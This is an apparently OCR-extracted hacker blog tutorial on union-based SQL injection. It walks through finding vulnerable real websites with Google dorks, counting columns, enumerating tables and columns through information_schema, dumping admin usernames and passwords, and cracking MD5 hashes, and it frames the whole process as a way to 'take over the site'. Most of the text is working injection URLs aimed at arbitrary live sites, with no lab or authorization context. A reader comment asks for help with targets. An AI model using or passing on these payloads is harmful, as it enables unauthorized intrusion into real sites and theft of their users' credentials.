Tutorial: sql injection

Sql Injection tutorial advanced. So far in all the hacks the most used by h4ck3rs from n00b to an 1337 one has been the SQL injection attack. Here we at hackiteasy we present a tutorial on how to apply SQL injection to websites. This trick has been found to be working on a huge no. of sites.

The hack starts as follows.

Finding vulnerable site

To find a vunerable site open google

Type in a dork like “inurl:index.php?id=” (without quotes) there are many other similar formats for finding such vulnerable pages.

Now click on any site like http://www.yoursite.com/index.php?id=786Now to test if the siote is hackable or not add a ‘ at the end of the site.

If the site gives an error like

“You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ”84′ at line 1″

we can assume that it is vunerable. If not try some other site.

We have the vulnerable site now. So lets try with different sql injection queries.

Checking the number of columns:

 To check the number of columns we do the following

http://www.site.com/index.php?id=-786 order by 1– if the page loads normally without any error we proceed belowhttp://www.site.com/index.php?id=-786 order by 2– (no error)
similarly check
http://www.site.com/index.php?id=-786 order by 3–
http://www.site.com/index.php?id=-786 order by 4–
http://www.site.com/index.php?id=-786 order by 5–
http://www.site.com/index.php?id=-786 order by 6– =>error

if we get an error at the 6 like “unknown column” that means there exists only 5 columns.

Finding vunerable columns:To find the vunerable columns we add union all select 1,2,3,4,5– after http://www.site.com/index.php?id=-786

Now the url becomes

http://www.site.com/index.php?id=-786 union all select 1,2,3,4,5–

after hitting enter we if we see some numbers like 2 4 some where on the page.Then the columns 2 and 4 are vunerable and data can be retrieved from colums 2 and 4. This is important as we would see data on these columns only.

Finding Mysql version:

To find the sql version we replace 2 or 4 (or the bulnerable column in yor case) with @@version.

The URL would become-

http://www.site.com/index.php?id=-786 union all select 1,@@version,3,4,5–

After hitting enter the sql version appears on the page in the vulnerable column space

Lets assume we got 5.0.90-community-log on page which is sql version.

Getting Table names:

To get table names replace @@version in the url with table_name and add from information_schema.tables– to the end.

The url now becomes

http://www.site.com/index.php?id=-786 union all select 1,table_name,3,4,5 from information_schema.tables–After hitting enter the page shows the tablenames.

Lets us assume we got something like this


To take over the site we data should be retrieved from admin table.As it seems the most favorable to contain all the passwords.

Getting the column names:

To get the column names from the table “admin” we do the following

http://www.site.com/index.php?id=-786 union all select 1,column_name,3,4,5 from information_schema.columns where table_name=char(ascii of tablename)–

Converting the tablename to ascii:
For the real hack above first we have to convert the admin table to ascii values. Convert the tablename to ascii here


The ascii generated for the table name admin is & #97;&# 100;&# 109;&# 105;&# 110;

Now remove &# and add a , between them

So now it is 97,100,109,105,110Replace it in the place of ascii of the tablename

Now it becomes

http://www.site.com/index.php?id=-786 union all select 1,column_name,3,4,5 from information_schema.columns where table_name=char(97,100,109,105,110)–

You can now see something like

username pwd gender email on page

Getting username and password:

To get the username and password we use

http://www.site.com/index.php?id=-786 union all select 1,concat(username,0x3a,pwd),3,4,5 from admin–   and hit enter.

At this point we see username and password on page.

The password may be in MD5 encrypted form, this can easilt be decrypted using the followingconverter-


This was a nice SQL injection hack tutorial. Please comment if you like the post.

Regards hackiteasy.com

Go to our new site- shankee.comLeave your vote





  1. on every vuln site i try, i can't seevulnerable tables, such as 2 and 4 in your example. can you help?

Leave a Reply

Your email address will not be published. Required fields are marked *